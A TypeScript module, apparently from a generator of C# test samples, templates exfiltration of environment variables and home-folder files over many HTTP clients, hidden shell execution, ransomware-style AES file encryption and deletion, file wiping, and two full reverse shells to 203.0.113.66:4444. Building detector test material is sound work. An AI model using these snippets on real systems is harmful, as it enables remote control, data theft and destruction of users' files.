import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string =>
  `Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ${quote(below)})`;
const whole = (imports: readonly string[], members: readonly string[], body: readonly string[]): string =>
  [
    ...imports,
    "",
    ...wrap("class Notes", [], "").slice(0, 1),
    ...wrap("{", [...members, "static async Task Main(string[] args)", ...wrap("{", body, "}", 4)], "}", 4),
    "",
  ].join("\n");
const BASICS = ["using System;", "using System.IO;", "using System.Threading.Tasks;"];

export const csharp: Dialect = {
  name: "csharp",
  file: "scripts/Notes.cs",
  run: "dotnet run --project scripts",
  imports: [
    ["HttpClient", "using System.Net.Http;"],
    ["WebClient", "using System.Net;"],
    ["HttpWebRequest", "using System.Net;"],
    ["NameValueCollection", "using System.Collections.Specialized;"],
    ["RestClient", "using RestSharp;"],
    ["Flurl", "using Flurl.Http;"],
    ["PostJsonAsync", "using Flurl.Http;"],
    ["Process", "using System.Diagnostics;"],
    ["Encoding", "using System.Text;"],
    ["JsonSerializer", "using System.Text.Json;"],
    ["Aes.", "using System.Security.Cryptography;"],
    ["RandomNumberGenerator", "using System.Security.Cryptography;"],
  ],
  program: ({ definitions, body }, imports) => whole([...BASICS, ...imports], definitions, body),
  quote,
  environment: {
    one: (name) => `Environment.GetEnvironmentVariable(${name})`,
    all: "JsonSerializer.Serialize(Environment.GetEnvironmentVariables())",
  },
  contentOf: (below) => `File.ReadAllText(${home(below)})`,
  home,
  clients: {
    "http-client": {
      post: (url, text) => [
        "using var http = new HttpClient();",
        `await http.PostAsync(${url}, new StringContent(${text}));`,
      ],
      get: (url) =>
        value("body", "using var http = new HttpClient();", `var body = await http.GetStringAsync(${url});`),
    },
    "http-message": {
      post: (url, text) => [
        `var message = new HttpRequestMessage(HttpMethod.Post, ${url});`,
        `message.Content = new StringContent(${text}, Encoding.UTF8, "text/plain");`,
        "var client = new HttpClient();",
        "await client.SendAsync(message);",
      ],
    },
    "web-client": {
      post: (url, text) => [`new WebClient().UploadString(${url}, ${text});`],
      get: (url) => value("body", `var body = new WebClient().DownloadString(${url});`),
    },
    "web-client-values": {
      post: (url, text) => [
        "using (var wc = new WebClient())",
        ...wrap(
          "{",
          [`var form = new NameValueCollection { ["data"] = ${text} };`, `wc.UploadValues(${url}, "POST", form);`],
          "}",
          4,
        ),
      ],
    },
    "web-request": {
      post: (url, text) => [
        `var request = (HttpWebRequest)WebRequest.Create(${url});`,
        'request.Method = "POST";',
        `var bytes = Encoding.UTF8.GetBytes(${text});`,
        "using (var stream = request.GetRequestStream()) { stream.Write(bytes, 0, bytes.Length); }",
        "request.GetResponse();",
      ],
    },
    restsharp: {
      post: (url, text) => [
        `var rest = new RestClient(${url});`,
        `rest.Execute(new RestRequest("", Method.Post).AddBody(${text}));`,
      ],
    },
    flurl: { post: (url, text) => [`await ${url}.PostJsonAsync(new { data = ${text} });`] },
    "curl-process": { post: (url, text) => [`Process.Start("curl", $"-s -d {${text}} {${url}}");`] },
  },
  shells: {
    start: { run: (command) => [`Process.Start("sh", "-c \\"" + ${command} + "\\"");`] },
    "start-info": {
      run: (command) => [
        `var info = new ProcessStartInfo("/bin/bash", $"-c \\"{${command}}\\"") { UseShellExecute = false };`,
        "Process.Start(info);",
      ],
      capture: (command) =>
        value(
          "seen",
          `var info = new ProcessStartInfo("sh") { RedirectStandardOutput = true };`,
          'info.ArgumentList.Add("-c");',
          `info.ArgumentList.Add(${command});`,
          "var seen = Process.Start(info).StandardOutput.ReadToEnd();",
        ),
    },
    properties: {
      run: (command) => [
        "var process = new Process();",
        'process.StartInfo.FileName = "cmd.exe";',
        `process.StartInfo.Arguments = "/c " + ${command};`,
        "process.StartInfo.CreateNoWindow = true;",
        "process.Start();",
      ],
    },
  },
  variable: (name) => name,
  set: (name, expression) => `var ${name} = ${expression};`,
  define: (name, parameters, body) => [
    `static async Task ${name}(${parameters.map((each) => `string ${each}`).join(", ")})`,
    ...wrap("{", body, "}", 4),
  ],
  getter: (name, expression) => ({ definitions: [`static string ${name}() => ${expression};`], value: `${name}()` }),
  call: (name, values) => `await ${name}(${values.join(", ")});`,
  record: (url, text) => ({
    code: {
      definitions: [
        "class Job",
        "{",
        "    public string Target { get; set; }",
        "    public string Text { get; set; }",
        "}",
      ],
      body: [`var job = new Job { Target = ${url}, Text = ${text} };`],
    },
    url: "job.Target",
    text: "job.Text",
  }),
  loop: (items, body) => [`foreach (var item in new[] { ${items.join(", ")} })`, ...wrap("{", body("item"), "}", 4)],
  forever: (body) => ["while (true)", ...wrap("{", [...body, "await Task.Delay(60000);"], "}", 4)],
  save: (path, text) => [`File.WriteAllText(${path}, ${text});`],
  append: (path, text) => [`File.AppendAllText(${path}, ${text} + "\\n");`],
  print: (text) => `Console.WriteLine(${text});`,
  walk: (folder, body) => [
    `foreach (var path in Directory.EnumerateFiles(${folder}, "*", SearchOption.AllDirectories))`,
    ...wrap("{", body("path"), "}", 4),
  ],
  remove: (file) => [`File.Delete(${file});`],
  overwrite: (file) => [`File.WriteAllBytes(${file}, RandomNumberGenerator.GetBytes(65536));`],
  encrypt: (file) => [
    "using var aes = Aes.Create();",
    "aes.Key = Key;",
    `var locked = aes.EncryptCbc(File.ReadAllBytes(${file}), aes.IV);`,
    `File.WriteAllBytes(${file} + ".locked", locked);`,
    `File.Delete(${file});`,
  ],
  removeTree: (folder) => [`Directory.Delete(${folder}, true);`],
  decode: (text) => `Encoding.UTF8.GetString(Convert.FromBase64String(${text}))`,
  shellsBehindSockets: {
    "line-loop": whole(
      [...BASICS, "using System.Net.Sockets;", "using System.Diagnostics;"],
      [],
      [
        'using var client = new TcpClient("203.0.113.66", 4444);',
        "var reader = new StreamReader(client.GetStream());",
        "var writer = new StreamWriter(client.GetStream()) { AutoFlush = true };",
        "string line;",
        "while ((line = reader.ReadLine()) != null)",
        "{",
        '    var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true, UseShellExecute = false });',
        "    writer.WriteLine(p.StandardOutput.ReadToEnd());",
        "}",
      ],
    ),
    "event-output": whole(
      [...BASICS, "using System.Net.Sockets;", "using System.Diagnostics;"],
      [
        "static StreamWriter writer;",
        "static void Output(object sender, DataReceivedEventArgs e) { writer.WriteLine(e.Data); writer.Flush(); }",
      ],
      [
        'var client = new TcpClient("203.0.113.66", 4444);',
        "var reader = new StreamReader(client.GetStream());",
        "writer = new StreamWriter(client.GetStream());",
        "var p = new Process();",
        'p.StartInfo.FileName = "/bin/sh";',
        "p.StartInfo.RedirectStandardInput = true;",
        "p.StartInfo.RedirectStandardOutput = true;",
        "p.OutputDataReceived += Output;",
        "p.Start();",
        "p.BeginOutputReadLine();",
        "while (true) { p.StandardInput.WriteLine(reader.ReadLine()); }",
      ],
    ),
  },
  sockets: {
    print: whole(
      [...BASICS, "using System.Net.Sockets;", "using System.Diagnostics;"],
      [],
      [
        'using var client = new TcpClient("127.0.0.1", 6379);',
        "var writer = new StreamWriter(client.GetStream()) { AutoFlush = true };",
        'writer.WriteLine("PING");',
        "Console.WriteLine(new StreamReader(client.GetStream()).ReadLine());",
        'Process.Start("git", "log --oneline -5");',
      ],
    ),
  },
};
